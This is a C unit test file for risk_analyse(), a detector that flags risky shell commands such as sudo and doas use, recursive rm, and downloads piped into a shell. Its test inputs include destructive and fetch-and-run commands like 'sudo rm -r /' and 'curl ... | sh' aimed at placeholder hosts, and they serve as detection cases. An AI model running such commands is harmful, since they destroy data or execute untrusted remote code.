/*
 * Copyright (c) 2026 The guardiand authors
 *
 * Permission to use, copy, modify, and distribute this software for any
 * purpose with or without fee is hereby granted, provided that the above
 * copyright notice and this permission notice appear in all copies.
 *
 * THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
 * WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
 * MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
 * ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
 * WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
 * ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
 * OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
 */

/*
 * risk_analyse(): what guardianctl watch marks in a canonical command
 * (a command run with another user's rights, a recursive rm, a
 * download piped into a shell), also inside a quoted script, and what
 * it leaves alone.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "risk.h"

/* The findings of cmd, and its marked words joined by "|". */
static int
analyse(const char *cmd, char *names, size_t len, char *words,
    size_t wlen)
{
	struct risk_mark	 m[RISK_MARKS];
	int			 n, nm, i;

	n = risk_analyse(cmd, names, len, m, &nm);
	words[0] = '\0';
	for (i = 0; i < nm; i++) {
		assert_true(m[i].a < m[i].b && m[i].b <= strlen(cmd));
		if (i > 0)
			strlcat(words, "|", wlen);
		strncat(words, cmd + m[i].a, m[i].b - m[i].a);
	}
	return (n);
}

static void
check(const char *cmd, int want, const char *wnames, const char *wwords)
{
	char	 names[128], words[512];

	assert_int_equal(analyse(cmd, names, sizeof(names), words,
	    sizeof(words)), want);
	assert_string_equal(names, wnames);
	assert_string_equal(words, wwords);
}

static void
test_harmless(void **state)
{
	check("git push origin main", 0, "", "");
	check("make test", 0, "", "");
	check("rm build/out.o", 0, "", "");
	check("echo sudo rm -rf", 0, "", "");
	check("curl -o x https://example.com/x", 0, "", "");
	check("grep -r foo .", 0, "", "");
	check("ls -R", 0, "", "");
	check("", 0, "", "");
}

static void
test_privilege(void **state)
{
	check("sudo make install", 1, "sudo", "sudo");
	check("/usr/bin/doas ls", 1, "doas", "/usr/bin/doas");
	check("env FOO=1 pkexec id", 1, "pkexec", "pkexec");
	check("sh -c 'su -c id'", 1, "su", "su");
}

static void
test_rm(void **state)
{
	check("rm -rf build", 1, "recursive rm", "rm|-rf");
	check("rm -fR x", 1, "recursive rm", "rm|-fR");
	check("rm --recursive x", 1, "recursive rm", "rm|--recursive");
	check("sudo rm -r /", 2, "sudo, recursive rm", "sudo|rm|-r");
	check("make clean; rm -r out", 1, "recursive rm", "rm|-r");
}

static void
test_download_to_shell(void **state)
{
	check("sh -c 'curl -s https://x.invalid/i | sh'", 1,
	    "download piped into a shell", "curl|sh");
	check("bash -c 'wget -qO- http://x | sudo bash'", 2,
	    "sudo, download piped into a shell", "sudo|wget|bash");
	/* A list ends the pipeline: no pipe from the download. */
	check("sh -c 'curl -o f http://x; sh f'", 0, "", "");
	check("sh -c 'curl http://x || sh'", 0, "", "");
}

/* The program's flags, as the parent sends them. */
static void
test_program(void **state)
{
	char	 names[128];

	strlcpy(names, "sudo", sizeof(names));
	assert_int_equal(risk_program("worktree", names, sizeof(names)), 1);
	assert_string_equal(names, "sudo, program inside the worktree");
	names[0] = '\0';
	assert_int_equal(risk_program("worktree,symlink", names,
	    sizeof(names)), 1);
	assert_string_equal(names, "program inside the worktree");
	names[0] = '\0';
	assert_int_equal(risk_program("symlink,worktree", names,
	    sizeof(names)), 1);
	names[0] = '\0';
	assert_int_equal(risk_program("", names, sizeof(names)), 0);
	assert_int_equal(risk_program("git,symlink", names, sizeof(names)),
	    0);
	assert_int_equal(risk_program("worktrees,xworktree", names,
	    sizeof(names)), 0);
	assert_string_equal(names, "");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_harmless),
		cmocka_unit_test(test_privilege),
		cmocka_unit_test(test_rm),
		cmocka_unit_test(test_download_to_shell),
		cmocka_unit_test(test_program),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
